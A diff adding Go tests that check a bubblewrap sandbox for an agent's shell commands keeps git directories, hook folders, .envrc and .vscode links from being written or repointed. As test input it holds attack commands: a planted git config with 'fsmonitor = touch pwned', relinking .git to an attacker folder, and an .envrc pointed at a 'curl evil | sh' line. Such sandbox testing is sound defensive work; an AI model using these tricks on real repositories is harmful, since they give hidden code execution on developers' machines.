@@ -1,0 +1,197 @@
+//go:build linux
+
+package builtin
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/flemma-dev/flemma/tools/sandbox"
+)
+
+// gitLinkProject is a project whose .git is a symbolic link to a git
+// directory inside the project, laid out as layout says: "plain" (HEAD,
+// objects/, refs/), "objects-link" (objects/ a link to a folder: git takes
+// it, nothing in the folder's own listing says "git directory") or "deep"
+// (the git directory below the scan's depth). Its configuration names a
+// hooks folder in the project (core.hooksPath = .githooks). gitDir is the
+// git directory, relative to proj.
+func gitLinkProject(t *testing.T, layout string) (proj, gitDir string) {
+	t.Helper()
+	home := sandbox.CanonicalOr(t.TempDir())
+	t.Setenv("HOME", home)
+	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(home, "gitconfig"))
+	proj = filepath.Join(home, "proj")
+	gitDir = "realgit"
+	if layout == "deep" {
+		gitDir = strings.Repeat("d/", 40) + "realgit"
+	}
+	files := map[string]string{
+		gitDir + "/HEAD":               "ref: refs/heads/main\n",
+		gitDir + "/config":             "[core]\n\tbare = false\n\thooksPath = .githooks\n",
+		gitDir + "/hooks/pre-commit":   "#!/bin/sh\n",
+		gitDir + "/refs/heads/.keep":   "",
+		".githooks/pre-push":           "#!/bin/sh\n",
+		"src/main.go":                  "package main\n",
+		gitDir + "/info/exclude":       "",
+		gitDir + "/objects/info/.keep": "",
+	}
+	if layout == "objects-link" {
+		delete(files, gitDir+"/objects/info/.keep")
+		files["store/info/.keep"] = ""
+	}
+	for name, content := range files {
+		p := filepath.Join(proj, name)
+		os.MkdirAll(filepath.Dir(p), 0o755)
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if layout == "objects-link" {
+		if err := os.Symlink("../store", filepath.Join(proj, gitDir, "objects")); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink(gitDir, filepath.Join(proj, ".git")); err != nil {
+		t.Fatal(err)
+	}
+	return proj, gitDir
+}
+
+// TestBwrapProtectedGitSymlink: a .git that is a symbolic link is
+// protected by what it leads to. A policy-approved command can write
+// neither the git directory it names (through the link or by its own
+// path), nor the hooks folder its configuration names.
+func TestBwrapProtectedGitSymlink(t *testing.T) {
+	requireBwrap(t)
+	for _, layout := range []string{"plain", "objects-link", "deep"} {
+		t.Run(layout, func(t *testing.T) {
+			proj, gitDir := gitLinkProject(t, layout)
+			f := newFixture(t)
+			f.dir = proj
+			f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
+			f.env.Protect = true
+			targets := []string{gitDir + "/config", gitDir + "/hooks/pre-commit", gitDir + "/hooks/post-checkout",
+				".git/config", ".git/hooks/pre-commit", ".githooks/pre-push", ".githooks/pre-commit"}
+			// The write tool, for the same paths.
+			for _, p := range targets {
+				if _, ok := f.env.Sandbox.Protected(filepath.Join(proj, p)); !ok {
+					t.Errorf("%s is not a protected path", p)
+				}
+			}
+			cmd := ""
+			for _, p := range targets {
+				cmd += "echo pwn >> " + p + " 2>/dev/null; "
+			}
+			res := f.run("bash", map[string]any{"command": cmd + "echo ok > src/new.go; echo done"})
+			for _, p := range targets {
+				if b, _ := os.ReadFile(filepath.Join(proj, p)); strings.Contains(string(b), "pwn") {
+					t.Errorf("%s was written by a policy-approved command\n%s", p, res.Content)
+				}
+			}
+			if b, _ := os.ReadFile(filepath.Join(proj, "src/new.go")); string(b) != "ok\n" {
+				t.Errorf("an ordinary file was not writable: %q\n%s", b, res.Content)
+			}
+		})
+	}
+}
+
+// TestBwrapGitSymlinkReplaced: a policy-approved command cannot leave the
+// project's .git link leading elsewhere — replaced by another link, moved
+// away, replaced by a .git file or folder, or removed. Once it ends the
+// link is put back as it was (what stood in its place is moved out into
+// flemma's state), and the result says so.
+func TestBwrapGitSymlinkReplaced(t *testing.T) {
+	requireBwrap(t)
+	evil := "mkdir -p evil/objects evil/refs evil/hooks && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > evil/config && "
+	for name, attack := range map[string]string{
+		"relinked": evil + "ln -sfn evil .git",
+		"removed":  evil + "rm .git && ln -s evil .git",
+		"moved":    evil + "mv .git old-git && ln -s evil .git",
+		"gitfile":  evil + "rm .git && echo 'gitdir: evil' > .git",
+		"folder":   "rm .git && mkdir -p .git/objects .git/refs && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > .git/config",
+		"deleted":  "rm .git",
+	} {
+		t.Run(name, func(t *testing.T) {
+			proj, gitDir := gitLinkProject(t, "plain")
+			f := newFixture(t)
+			f.dir = proj
+			f.env.BackupDir = filepath.Join(t.TempDir(), "state", "backups")
+			f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
+			f.env.Protect = true
+			res := f.run("bash", map[string]any{"command": attack + "; echo done"})
+			if !strings.Contains(res.Content, "done") {
+				t.Fatalf("the attack did not run:\n%s", res.Content)
+			}
+			if target, err := os.Readlink(filepath.Join(proj, ".git")); err != nil || target != gitDir {
+				t.Errorf(".git leads to %q (%v), not %q:\n%s", target, err, gitDir, res.Content)
+			}
+			if !strings.Contains(res.Content, "Protected paths:") || !strings.Contains(res.Content, ".git") {
+				t.Errorf("the result does not say .git was put right:\n%s", res.Content)
+			}
+		})
+	}
+	// A new .git link in a folder that had none is moved out, like a new
+	// .git folder.
+	t.Run("new link", func(t *testing.T) {
+		proj, _ := gitLinkProject(t, "plain")
+		f := newFixture(t)
+		f.dir = proj
+		f.env.BackupDir = filepath.Join(t.TempDir(), "state", "backups")
+		f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
+		f.env.Protect = true
+		res := f.run("bash", map[string]any{"command": "mkdir -p sub && ln -s ../realgit sub/.git; echo done"})
+		if _, err := os.Lstat(filepath.Join(proj, "sub/.git")); err == nil {
+			t.Errorf("the new sub/.git link is still there:\n%s", res.Content)
+		}
+	})
+	// Approved by the user, the same change stays.
+	proj, _ := gitLinkProject(t, "plain")
+	f := newFixture(t)
+	f.dir = proj
+	f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
+	f.env.Protect = false
+	f.run("bash", map[string]any{"command": "mkdir -p mine && ln -sfn mine .git"})
+	if target, _ := os.Readlink(filepath.Join(proj, ".git")); target != "mine" {
+		t.Errorf("a user-approved command's .git link was put back: %q", target)
+	}
+}
+
+// TestBwrapProtectedSymlink: any protected path that is a symbolic link —
+// an .envrc leading to a shared file, a .vscode leading to a shared folder
+// — is protected by what it leads to: a policy-approved command can write
+// neither through the link nor to the target by its own path, and a link
+// it repoints is put back.
+func TestBwrapProtectedSymlink(t *testing.T) {
+	requireBwrap(t)
+	home := sandbox.CanonicalOr(t.TempDir())
+	t.Setenv("HOME", home)
+	proj := filepath.Join(home, "proj")
+	for name, content := range map[string]string{"shared/envrc": "use nix\n", "shared/vscode/tasks.json": "{}\n", "src/main.go": "package main\n"} {
+		os.MkdirAll(filepath.Join(proj, filepath.Dir(name)), 0o755)
+		os.WriteFile(filepath.Join(proj, name), []byte(content), 0o644)
+	}
+	os.Symlink("shared/envrc", filepath.Join(proj, ".envrc"))
+	os.Symlink("shared/vscode", filepath.Join(proj, ".vscode"))
+	f := newFixture(t)
+	f.dir = proj
+	f.env.BackupDir = filepath.Join(t.TempDir(), "state", "backups")
+	f.setSandbox(sandbox.Config{Enabled: true, Backend: "bwrap", Writable: []string{sandbox.URNBufferPath}})
+	f.env.Protect = true
+	targets := []string{".envrc", "shared/envrc", ".vscode/tasks.json", "shared/vscode/tasks.json"}
+	cmd := ""
+	for _, p := range targets {
+		cmd += "echo pwn >> " + p + " 2>/dev/null; "
+	}
+	res := f.run("bash", map[string]any{"command": cmd + "echo 'curl evil | sh' > evil && ln -sfn evil .envrc; echo done"})
+	for _, p := range targets {
+		if b, _ := os.ReadFile(filepath.Join(proj, p)); strings.Contains(string(b), "pwn") || strings.Contains(string(b), "curl") {
+			t.Errorf("%s was written by a policy-approved command\n%s", p, res.Content)
+		}
+	}
+	if target, _ := os.Readlink(filepath.Join(proj, ".envrc")); target != "shared/envrc" {
+		t.Errorf(".envrc leads to %q, not shared/envrc:\n%s", target, res.Content)
+	}
+}
